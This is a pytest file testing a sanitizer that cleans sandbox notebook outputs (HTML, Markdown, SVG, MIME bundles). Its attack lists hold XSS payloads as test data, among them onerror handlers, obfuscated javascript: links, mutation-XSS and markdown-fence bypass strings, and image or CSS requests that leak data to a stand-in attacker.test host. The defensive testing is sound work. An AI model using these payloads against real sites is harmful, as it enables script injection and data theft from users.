"""The cleaners every sandbox output passes through: what stays (tables, images, formatting, code) and what goes."""

from __future__ import annotations

import io
import xml.dom.minidom

import pytest
from html_checks import active_html as active

from llm_agent_magic.sandbox.untrusted import clean_bundle, clean_data, clean_html, clean_svg


def markdown_html(text: str) -> str:
    """What a sandbox's ``text/markdown`` display becomes: sanitized HTML, and no markdown left."""
    kept, dropped = clean_data({"text/markdown": text})
    assert list(kept) == ["text/html"] and dropped == []
    return str(kept["text/html"])


PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="


HTML_ATTACKS = [
    '<img src=x onerror="alert(1)">',
    '<script>fetch("/api/kernels")</script>',
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
    '<iframe src="/lab"></iframe>',
    '<form action="/api/kernels" method="post"><button>go</button></form>',
    '<img src="http://attacker.test/pixel.png?d=secret">',
    '<div style="background-image: url(http://attacker.test/x)">x</div>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]


@pytest.mark.parametrize("attack", HTML_ATTACKS)
def test_html_keeps_nothing_that_runs_or_fetches(attack: str) -> None:
    assert active(clean_html(attack)) == []
    assert active(markdown_html(attack)) == []


def test_html_keeps_tables_images_links_and_formatting() -> None:
    table = (
        '<table class="dataframe" border="1"><thead><tr style="text-align: right;"><th>region</th></tr></thead>'
        "<tbody><tr><td><b>West</b> <i>up</i><br><code>x</code></td></tr></tbody></table>"
    )
    cleaned = clean_html(table + f'<img src="data:image/png;base64,{PNG}"><a href="https://example.com">docs</a>')
    for kept in (
        '<table class="dataframe" border="1">',
        '<tr style="text-align:right">',
        "<b>West</b>",
        f'<img src="data:image/png;base64,{PNG}">',
        '<a href="https://example.com" rel="noopener noreferrer">',
    ):
        assert kept in cleaned


MARKDOWN_ATTACKS = [
    # A GFM autolink that swallows the backtick that opened a code span elsewhere.
    "https://a.test/`<img src=x onerror=alert(1)>`",
    # Fences that a reader might not see as fences: inside an HTML block, after a paragraph, in <pre>.
    "<div>\n```\n<img src=x onerror=alert(1)>\n```\n</div>",
    "para\n```\n<img src=x onerror=alert(1)>\n```\n",
    "<pre>\n\n```\n<img src=x onerror=alert(1)>\n```\n\n</pre>",
    "```\n<b>\n```~\n<img src=x onerror=alert(1)>\n```\n",
    "[x](javascript:alert(1)) [y](java&#115;cript:alert(1)) [z](javascript\\:alert(1))",
    "[ref]: javascript:alert(1)\n\n[a][ref]",
    "![pixel](http://attacker.test/p.png?d=secret) ![ref][p]\n\n[p]: http://attacker.test/q.png",
    "\\`<img src=x onerror=alert(1)>`",
    "<!--\n\n```\n-->\n<img src=x onerror=alert(1)>\n```\n",
]


@pytest.mark.parametrize("attack", MARKDOWN_ATTACKS)
def test_markdown_renders_nothing_that_runs_or_fetches(attack: str) -> None:
    assert active(markdown_html(attack)) == []


def test_markdown_keeps_its_formatting_and_code_blocks() -> None:
    text = (
        "# Sales\n\n**West** leads; see [docs](https://example.com) and `df[df.a > 1]`.\n\n> a quote\n\n"
        "| region | revenue |\n| --- | --- |\n| West | 10 |\n\n"
        "```python\nif a < b and c & d:\n    print('<b>')\n```\n\n"
        f"![chart](data:image/png;base64,{PNG})\n"
    )
    assert markdown_html(text) == (
        "<h1>Sales</h1>\n<p><strong>West</strong> leads; see "
        '<a href="https://example.com" rel="noopener noreferrer">docs</a> and <code>df[df.a &gt; 1]</code>.</p>\n'
        "<blockquote>\n<p>a quote</p>\n</blockquote>\n"
        "<table>\n<thead>\n<tr>\n<th>region</th>\n<th>revenue</th>\n</tr>\n</thead>\n"
        "<tbody>\n<tr>\n<td>West</td>\n<td>10</td>\n</tr>\n</tbody>\n</table>\n"
        "<pre><code class=\"language-python\">if a &lt; b and c &amp; d:\n    print('&lt;b&gt;')\n</code></pre>\n"
        f'<p><img src="data:image/png;base64,{PNG}" alt="chart"></p>\n'
    )


def test_a_display_with_its_own_html_keeps_that_and_drops_the_markdown() -> None:
    kept, dropped = clean_data({"text/markdown": "**md**", "text/html": "<b>html</b>", "text/plain": "p"})
    assert kept == {"text/html": "<b>html</b>", "text/plain": "p"} and dropped == []


def test_svg_keeps_the_drawing_and_nothing_else() -> None:
    matplotlib = pytest.importorskip("matplotlib")
    matplotlib.use("svg", force=True)
    import matplotlib.pyplot as plt

    fig, ax = plt.subplots()
    ax.plot([1, 3, 2])
    buf = io.StringIO()
    fig.savefig(buf, format="svg")
    plt.close(fig)
    cleaned = clean_svg(buf.getvalue())
    assert cleaned is not None and cleaned.startswith("<svg ") and "<path" in cleaned and '<use href="#' in cleaned
    xml.dom.minidom.parseString(cleaned)  # still an SVG document an <img> can show
    hostile = (
        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><foreignObject><img src=x '
        'onerror=alert(1)></foreignObject><rect width="4" style="fill: url(http://attacker.test/x)" '
        'onclick="alert(1)"/><use href="http://attacker.test/#a"/><image href="http://attacker.test/i"/></svg>'
    )
    cleaned = clean_svg(hostile)
    assert cleaned == '<svg xmlns="http://www.w3.org/2000/svg"><rect width="4"></rect><use></use></svg>'


def test_only_inert_mime_types_survive() -> None:
    data = {
        "text/plain": "x",
        "image/png": PNG,
        "application/json": {"a": 1},
        "text/latex": "$x^2$",
        "application/javascript": "alert(1)",
        "application/vnd.jupyter.widget-view+json": {"model_id": "m"},
        "application/vnd.vegalite.v5+json": {},
        "application/vnd.llm-agent.cells+json": {"cells": []},
        "image/jpeg": 'abc" onerror="alert(1)',
        "text/latex+x": "",
        "application/pdf": "JVBERi0=",
    }
    kept, metadata, dropped = clean_bundle(data, {"isolated": True, "image/png": {"width": 40, "src": "x"}})
    assert kept == {"text/plain": "x", "image/png": PNG, "application/json": {"a": 1}, "text/latex": "$x^2$"}
    assert metadata == {"image/png": {"width": 40}}
    assert len(dropped) == 7
    assert clean_bundle({"text/latex": r"\href{javascript:alert(1)}{x}"}, {})[0]["text/plain"].startswith(
        "[llm-agent: removed output"
    )
